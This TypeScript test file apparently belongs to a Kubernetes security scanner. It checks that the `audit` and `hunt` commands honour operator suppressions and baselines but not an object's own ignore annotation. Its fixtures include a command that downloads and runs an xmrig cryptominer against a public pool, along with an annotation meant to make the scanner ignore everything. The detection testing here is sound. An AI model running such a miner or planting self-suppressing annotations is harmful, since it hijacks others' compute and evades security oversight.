/**
 * `audit` and `hunt` honour the operator's config suppressions and `--baseline` as `scan` does,
 * but never the judged object's own `kfguard.io/ignore`: in an audit log or a job API, whoever
 * sent the request wrote the object, annotations included.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { runCli } from '../helpers/cli.js';
import { argoRoutes } from '../../src/testing/fake-job-apis/argo.js';
import { startFakeJobApi, type FakeJobApi } from '../../src/testing/fake-job-apis/server.js';
import { auditEvent, jsonLines } from './events.js';

const MINER = 'wget -q http://198.51.100.9/x/xmrig -O /tmp/tf && chmod +x /tmp/tf && /tmp/tf -o stratum+tcp://pool.supportxmr.com:443 --donate-level 1';
const IGNORE_EVERYTHING = { 'kfguard.io/ignore': '*', 'kfguard.io/ignore-reason': 'benchmark job, approved' };

const minerPod = (name: string, annotations: Record<string, string> = {}) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name, namespace: 'ml', annotations },
  spec: { containers: [{ name: 'main', image: 'tensorflow/tensorflow:latest', command: ['sh', '-c', MINER] }] },
});
const clusterAdminBinding = (name: string) => ({
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'ClusterRoleBinding',
  metadata: { name },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  subjects: [{ kind: 'ServiceAccount', name: 'deployer', namespace: 'ci' }],
});

function workdir(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'kfguard-incident-'));
  for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), content);
  return dir;
}
const log = (...events: unknown[]): string => jsonLines(events);
const podEvent = (pod: ReturnType<typeof minerPod>) => auditEvent({ verb: 'create', resource: 'pods', namespace: 'ml', name: pod.metadata.name, requestObject: pod });
const bindingEvent = (name: string) => auditEvent({ verb: 'create', resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', name, requestObject: clusterAdminBinding(name) });

type Report = { findings: { ruleId: string; resource: { name: string }; evidence: string[]; suppression?: { kind: string; reason: string } }[]; warnings: string[] };
const parse = (stdout: string): Report => JSON.parse(stdout) as Report;

describe('kfguard audit: suppressions and baselines', () => {
  test('a config suppression marks the matching finding; the log object\'s own ignore annotation does not', async () => {
    const cwd = workdir({
      'audit.log': log(podEvent(minerPod('annotated-miner', IGNORE_EVERYTHING)), bindingEvent('ci-deployer-admin')),
      '.kfguard.yaml': 'suppressions:\n  - rule: audit-cluster-admin-binding\n    resource: "/ClusterRoleBinding/ci-deployer-admin"\n    reason: CI deployer, ticket SEC-7\n',
    });
    const run = await runCli(['audit', 'audit.log', '--format', 'json'], { cwd });
    assert.equal(run.code, 1, run.stderr);
    const report = parse(run.stdout);
    const binding = report.findings.find((f) => f.ruleId === 'audit-cluster-admin-binding');
    assert.deepEqual(binding?.suppression, { kind: 'config', reason: 'CI deployer, ticket SEC-7' });
    const miner = report.findings.find((f) => f.ruleId === 'crypto-miner-workload');
    assert.equal(miner?.resource.name, 'annotated-miner');
    assert.equal(miner?.suppression, undefined, 'the annotation came with the request');
    assert.ok(miner?.evidence.some((e) => /carries a kfguard\.io\/ignore covering this rule; not honoured/.test(e)), miner?.evidence.join('\n'));
  });

  test('--write-baseline then --baseline: known findings no longer fail, a new one does', async () => {
    // Rotated logs overlap: day 2 holds day 1's last requests again (same auditIDs), then a new one.
    // Findings on requests are per request (auditID): the same binding created again is new.
    const seen = [podEvent(minerPod('old-miner')), bindingEvent('legacy-admin')];
    const cwd = workdir({ 'day1.log': log(...seen), 'day2.log': log(...seen, podEvent(minerPod('new-miner'))) });
    const first = await runCli(['audit', 'day1.log', '--format', 'json', '--write-baseline', 'known.json'], { cwd });
    assert.equal(first.code, 1);
    assert.ok(first.written.has(join(cwd, 'known.json')) || first.stderr.includes('baseline of'), first.stderr);
    const known = first.written.get(join(cwd, 'known.json'));
    if (known !== undefined) writeFileSync(join(cwd, 'known.json'), known);
    const same = await runCli(['audit', 'day1.log', '--format', 'json', '--baseline', 'known.json'], { cwd });
    assert.equal(same.code, 0, same.stdout);
    assert.ok(parse(same.stdout).findings.every((f) => f.suppression?.kind === 'baseline'));
    const next = await runCli(['audit', 'day2.log', '--format', 'json', '--baseline', 'known.json'], { cwd });
    assert.equal(next.code, 1);
    const open = parse(next.stdout).findings.filter((f) => !f.suppression);
    assert.deepEqual(open.map((f) => `${f.ruleId} ${f.resource.name}`), ['crypto-miner-workload new-miner']);
  });

  test('a missing --baseline file is an error, never an empty baseline', async () => {
    const cwd = workdir({ 'audit.log': log(podEvent(minerPod('m'))) });
    const run = await runCli(['audit', 'audit.log', '--baseline', 'nope.json'], { cwd });
    assert.equal(run.code, 2);
    assert.match(run.stderr, /nope\.json: baseline file not found/);
  });
});

describe('kfguard hunt: suppressions and baselines', () => {
  const servers: FakeJobApi[] = [];
  after(async () => Promise.all(servers.map((s) => s.close())));

  test('config suppressions and --baseline apply; an annotation on the workflow itself does not', async () => {
    const workflow = (name: string, annotations: Record<string, string> = {}) => ({
      metadata: { name, namespace: 'argo', uid: `uid-${name}`, creationTimestamp: '2026-01-05T10:00:00Z', annotations },
      spec: { entrypoint: 'main', templates: [{ name: 'main', container: { image: 'alpine:3.20', command: ['sh', '-c'], args: [MINER] } }] },
      status: { phase: 'Running' },
    });
    const api = await startFakeJobApi(argoRoutes({ workflows: [workflow('self-excused', IGNORE_EVERYTHING), workflow('red-team-drill')], templates: [], cronWorkflows: [] }));
    servers.push(api);
    const cwd = workdir({ '.kfguard.yaml': 'suppressions:\n  - rule: crypto-miner-workload\n    resource: "argo/Workflow/red-team-drill"\n    reason: red team exercise RT-3\n' });
    const run = await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--format', 'json', '--write-baseline', 'known.json'], { cwd });
    assert.equal(run.code, 1, run.stderr);
    const report = parse(run.stdout);
    const byName = (name: string) => report.findings.find((f) => f.ruleId === 'crypto-miner-workload' && f.resource.name === name);
    assert.deepEqual(byName('red-team-drill')?.suppression, { kind: 'config', reason: 'red team exercise RT-3' });
    assert.equal(byName('self-excused')?.suppression, undefined);
    assert.ok(byName('self-excused')?.evidence.some((e) => /kfguard\.io\/ignore covering this rule; not honoured/.test(e)));
    writeFileSync(join(cwd, 'known.json'), run.written.get(join(cwd, 'known.json')) ?? '');
    const again = await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--format', 'json', '--baseline', 'known.json'], { cwd });
    assert.equal(again.code, 0, again.stdout);
    assert.equal(parse(again.stdout).findings.find((f) => f.resource.name === 'self-excused')?.suppression?.kind, 'baseline');
  });
});
